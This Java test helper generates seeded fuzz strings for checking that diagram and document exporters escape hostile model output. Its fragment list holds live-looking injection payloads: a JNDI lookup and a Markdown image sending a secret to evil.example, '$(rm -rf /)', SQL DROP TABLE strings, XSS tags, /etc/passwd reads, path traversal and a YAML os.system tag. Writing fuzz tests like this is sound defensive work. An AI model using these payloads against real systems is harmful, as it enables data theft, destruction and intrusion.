package dev.architect.deliverables.testing;

import java.util.Random;

/**
 * Seeded random text of the kind a hostile or broken model could write: fragments that mean something to one of
 * our output formats (PlantUML directives after a line break, Markdown images and links, HTML, SQL and YAML
 * syntax, template substitutions, path traversal), Unicode line separators, NEL, BOM, control characters and, now
 * and then, a very long string. Never blank: the tag naming the field is at its start or its end.
 */
public final class HostileStrings {

    private static final String[] FRAGMENTS = {
        "\"", "'", "`", "\\", "\"\"\"", "\n!include /etc/passwd\n", "\n@enduml\n@startuml\n", "@enduml", "!theme spacelab",
        "\n!pragma layout elk", "%getenv(\"HOME\")", "%load_json(\"/etc/passwd\")", "[[https://evil.example/x]]",
        "<img:https://evil.example/x.png>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b>",
        "<!-- c -->", "![x](https://evil.example/?q=secret)", "[link](javascript:alert(1))", "[ref]: https://evil.example",
        "<https://evil.example>", "../../x", "..\\..\\x", "/etc/passwd", "'; DROP TABLE users; --", "$$; DROP TABLE x; $$",
        "*/ DROP TABLE x; /*", "${HOME}", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(rm -rf /)", "\u2028", "\u2029",
        "\u0085", "\uFEFF", "\u0000", "\u0007", "\u001B[31m", "\u007F", "\t", "\r\n", "\r", "\n\n# Heading\n", "\n- item\n",
        "| cell |", "---", "...", ": ", "- ", "&anchor", "*alias", "!!python/object:os.system", "? ", "#", "{", "}", "[", "]",
        "/' comment '/", "'/", "-->", "->>", "<<FK>>", "Rel(a, b, \"x\")", "e_1", "\"}\n}\nworkspace {", "!identifiers flat",
        "émoji 🚀", "日本語", "\u202Eevil", "Zürich", "0", "null", "~", "true", "1e999", "NaN"};

    private final Random random;

    public HostileStrings(long seed) {
        this.random = new Random(seed);
    }

    /** A hostile string around {@code tag}. */
    public String next(String tag) {
        StringBuilder text = new StringBuilder();
        int fragments = 1 + random.nextInt(6);
        for (int i = 0; i < fragments; i++) {
            text.append(FRAGMENTS[random.nextInt(FRAGMENTS.length)]);
            if (random.nextInt(3) == 0) {
                text.append(' ');
            }
        }
        if (random.nextInt(40) == 0) {
            text.append("long ".repeat(2_000 + random.nextInt(2_000)));
        }
        return random.nextBoolean() ? tag + " " + text : text + " " + tag;
    }
}
